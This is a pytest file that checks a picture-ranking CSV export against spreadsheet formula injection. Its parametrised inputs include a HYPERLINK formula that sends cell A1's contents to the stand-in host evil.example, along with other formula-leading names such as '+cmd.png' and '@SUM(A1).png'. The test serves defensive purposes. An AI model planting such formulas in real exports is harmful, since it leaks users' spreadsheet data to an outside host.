"""The ranking that goes from the browser to a spreadsheet computes nothing there, and comes back as it was."""

from __future__ import annotations

import csv
import io
from types import SimpleNamespace
from typing import Any, cast

import pytest

from lwise_core.batch.score_table import ODDITY_COLUMNS, SCORE_COLUMNS
from lwise_core.study.ranked_pictures import read_ranked_pictures, same_pictures
from pages.parts.rank.table import as_csv

FORMULA = '=HYPERLINK("http://evil.example?"&A1,"a").png'


@pytest.mark.parametrize("name", [FORMULA, "+cmd.png", "-2+3.png", "@SUM(A1).png", "cat.png"])
def test_no_name_is_computed_and_each_is_found_again(name: str) -> None:
    row = dict.fromkeys({**SCORE_COLUMNS, **ODDITY_COLUMNS}) | {
        "picture": name,
        "stated_class": "=1+1",
        "robust_gt_logit": -1.5,
        "log_probability": -0.5,
        "source_sha256": "0" * 64,
    }
    ranked = SimpleNamespace(wobbles={}, ranking=SimpleNamespace(as_table=lambda _guide: iter([row])))
    written = as_csv(cast("Any", ranked), cast("Any", None))
    (found,) = csv.DictReader(io.StringIO(written.decode()))
    assert found["robust_gt_logit"] == "-1.5"  # a number stays one
    for value in (found["picture"], found["stated_class"]):
        assert value[0] not in "=+-@"
    pictures = read_ranked_pictures(written).pictures
    assert same_pictures(pictures, [name]) == ((0, 0),)
